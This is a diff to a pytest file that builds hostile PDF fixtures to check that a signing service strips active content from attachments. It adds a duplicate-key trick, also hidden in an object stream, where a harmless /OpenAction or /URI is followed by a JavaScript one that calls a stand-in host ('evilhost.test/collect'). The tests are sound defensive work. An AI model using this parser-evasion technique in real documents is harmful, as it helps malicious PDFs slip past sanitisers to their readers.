@@ -10,6 +10,9 @@ attachment built so was sealed with its script); the deep actions, GoToR and tho
 from __future__ import annotations
 
 import io
+import pathlib
+import subprocess
+import tempfile
 
 import pytest
 from pypdf import PdfReader, PdfWriter
@@ -48,22 +51,45 @@ def _with_links(writer: PdfWriter, actions: list) -> None:
     page[NameObject("/Annots")] = ArrayObject([*page.get("/Annots", ArrayObject()), *links])
 
 
-def duplicate_key() -> bytes:
-    """The catalog's /OpenAction given twice: a page destination first, a script second; a link whose
-    /URI is given twice: a web address first, `javascript:` second. Written with placeholder keys of
-    the same length, renamed in the bytes (the cross-reference offsets stay right)."""
+def _keys_twice() -> bytes:
+    """The catalog's /OpenAction given first as a page destination, then (under a placeholder key of
+    the same length, /OpenActioz) as a script; a link's /URI given first as a web address, then (/URX)
+    as `javascript:`."""
     writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain_pdf())))
     root = writer.root_object
-    root[NameObject("/OpenActioX")] = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
-    root[NameObject("/OpenAction")] = writer._add_object(_js("app.launchURL('https://evilhost.test/collect')"))
+    root[NameObject("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
+    root[NameObject("/OpenActioz")] = writer._add_object(_js("app.launchURL('https://evilhost.test/collect')"))
     _with_links(writer, [_d(S=NameObject("/URI"), URI=TextStringObject("https://example.test/fine"),
                             URX=TextStringObject("javascript:EVILSCRIPT(1)"))])
-    pdf = _written(writer)
-    assert pdf.count(b"/OpenActioX") == 1 and pdf.count(b"/URX") == 1
-    pdf = pdf.replace(b"/OpenActioX", b"/OpenAction").replace(b"/URX", b"/URI")
+    return _written(writer)
+
+
+def _renamed(pdf: bytes) -> bytes:
+    """The placeholder keys renamed in the bytes (the same length: every offset stays right)."""
+    assert pdf.count(b"/OpenActioz") == 1 and pdf.count(b"/URX") == 1
+    pdf = pdf.replace(b"/OpenActioz", b"/OpenAction").replace(b"/URX", b"/URI")
     reader = PdfReader(io.BytesIO(pdf))  # pypdf sees the harmless first values only
     assert isinstance(reader.root_object["/OpenAction"], ArrayObject)
     return pdf
+
+
+def duplicate_key() -> bytes:
+    """A script and a `javascript:` link each behind a key given twice (qpdf, as viewers that keep
+    the last value, runs them)."""
+    return _renamed(_keys_twice())
+
+
+def duplicate_key_in_object_stream() -> bytes:
+    """The same, the catalog and the link's action in an object stream (qpdf writes it; its data left
+    uncompressed so that the keys can be renamed, but read as any object stream's)."""
+    with tempfile.TemporaryDirectory() as folder:
+        source, target = pathlib.Path(folder, "in.pdf"), pathlib.Path(folder, "out.pdf")
+        source.write_bytes(_keys_twice())
+        subprocess.run(["qpdf", "--object-streams=generate", "--stream-data=uncompress", str(source), str(target)],
+                       check=True)
+        pdf = target.read_bytes()
+    assert pdf.index(b"/OpenActioz") > pdf.index(b"/Type /ObjStm")
+    return _renamed(pdf)
 
 
 def deep_fields() -> bytes:
@@ -114,6 +140,7 @@ def link_uris() -> bytes:
 # each shape: its PDF, the kinds it is reported as, strings only its active content carries
 SHAPES = {
     "duplicate_key": (duplicate_key, ["javascript"], [b"EVILSCRIPT", b"evilhost"]),
+    "duplicate_key_in_object_stream": (duplicate_key_in_object_stream, ["javascript"], [b"EVILSCRIPT", b"evilhost"]),
     "deep_fields": (deep_fields, ["launch", "submit_form"], [b"EVILPROGRAM", b"evilhost"]),
     "goto_remote": (goto_remote, ["launch"], [b"evilhost", b"EVILREMOTE"]),
     "link_uris": (link_uris, ["javascript", "launch"], [b"EVILSCRIPT", b"EVILPROGRAM", b"PHNjcmlwdD5", b"EVILPAYLOAD"]),
@@ -187,7 +214,7 @@ async def test_a_shape_is_stripped_from_a_signers_attachment(server, shape, tmp_
     got = await server.client.get(f"/v1/signing-requests/{made.id}/fields/{made.fields['proof']}/attachment")
     assert got.status == 200
     assert_none_left(got.body, markers)
-    if shape == "duplicate_key":  # and so it is sealed
+    if shape == "duplicate_key":  # and so it is sealed (once: it is slow)
         await sign_with(server, token, ANN["name"])
         _, body, _ = await signed_pdf(server, made.id, tmp_path)
         [embedded] = PdfReader(io.BytesIO(body)).attachments[f"attachment-1-{shape}.pdf"]
